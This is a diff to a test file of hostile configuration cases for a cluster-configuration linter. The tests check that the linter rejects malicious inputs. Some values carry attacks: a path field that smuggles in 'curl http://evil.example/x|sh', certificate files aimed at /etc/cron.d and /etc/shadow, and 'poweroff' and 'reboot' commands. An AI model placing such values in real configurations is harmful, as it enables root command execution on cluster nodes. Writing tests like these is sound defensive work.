@@ -5,6 +5,7 @@
  * (lint exits 1, nothing is written for devices), or a refusal whose message matches.
  * Run through the CLI (hostileCorpus.test.ts) and in Chromium (e2e/tests/hostile.spec.ts).
  */
+import { CA_PEM } from '../pemFixtures.js';
 import { deflateRawSync } from 'node:zlib';
 import type { FindingCode } from '../../src/lint/finding.js';
 import { LIMITS } from '../../src/limits.js';
@@ -87,6 +88,18 @@ export const HOSTILE_CASES: HostileCase[] = [
   siteJson('ca-pem-carriage-return', 'control character', (s) => s.airGap.registryConfigs.push({ ...registry, caPem: '-----BEGIN CERTIFICATE-----\r\nMIIB\r\n-----END CERTIFICATE-----\r\n' }), { finding: 'control-character' }),
   siteJson('key-pem-escape', 'control character', (s) => s.airGap.registryConfigs.push({ ...registry, keyPem: '-----BEGIN PRIVATE KEY-----\nMIIB\u001b]0;pwned\u0007\n-----END PRIVATE KEY-----\n' }), { finding: 'control-character' }),
   siteJson('ca-pem-too-large', 'size', (s) => s.airGap.registryConfigs.push({ ...registry, caPem: `-----BEGIN CERTIFICATE-----\n${'QUFB\n'.repeat(20_000)}-----END CERTIFICATE-----\n` }), { finding: 'too-large' }),
+  // A registry certificate's content written elsewhere than the designer's own folder (a root cron job, /etc/shadow), or not a certificate at all.
+  siteJson('registry-ca-content-to-cron', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '/etc/cron.d/zz-evil', caPem: CA_PEM }), { finding: 'unsafe-path' }),
+  siteJson('registry-ca-dot-dot', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caFile: '/etc/rancher/rke2/tls/../../../../etc/shadow', caPem: CA_PEM }), { finding: 'unsafe-path' }),
+  siteJson('registry-ca-shell-lines', 'root command', (s) => s.airGap.registryConfigs.push({ ...registry, caPem: '-----BEGIN CERTIFICATE-----\npoweroff\n-----END CERTIFICATE-----\n' }), { finding: 'pem-invalid' }),
+  // Shared settings that every node repeats: many registries, or thousands of SSH keys on 2,000 nodes.
+  siteJson('registries-many-certificates', 'size', (s) => {
+    for (let i = 0; i < 40; i++) s.airGap.registryConfigs.push({ ...registry, host: `r${i}.plant.example`, caPem: CA_PEM });
+  }, { finding: 'too-large' }),
+  siteJson('ssh-keys-times-nodes', 'size', (s) => {
+    s.os.user.sshAuthorizedKeys = Array.from({ length: 400 }, (_, i) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'x'.repeat(300)}${i}`);
+    s.nodes = Array.from({ length: 2000 }, (_, i) => ({ ...s.nodes[Math.min(i, 3)]!, name: i === 0 ? 'cp-1' : `n${i}`, role: i === 0 ? 'init' : 'worker', address: `10.7.${i >> 8}.${(i & 255) + 1}/16` }));
+  }, { finding: 'too-large' }),
   cloudConfig('local-images-path-command', '  import_local_images: true\n  local_images_path: "/opt/x; curl http://evil.example/x|sh #"\n', { finding: 'unsafe-path' }),
   cloudConfig('cluster-root-path-command', '  import_local_images: true\n  providerConfig:\n    cluster_root_path: "/bin/sh /x;reboot;"\n', { finding: 'unsafe-path' }),
   // Extra lines in /etc/default/rke2-*.
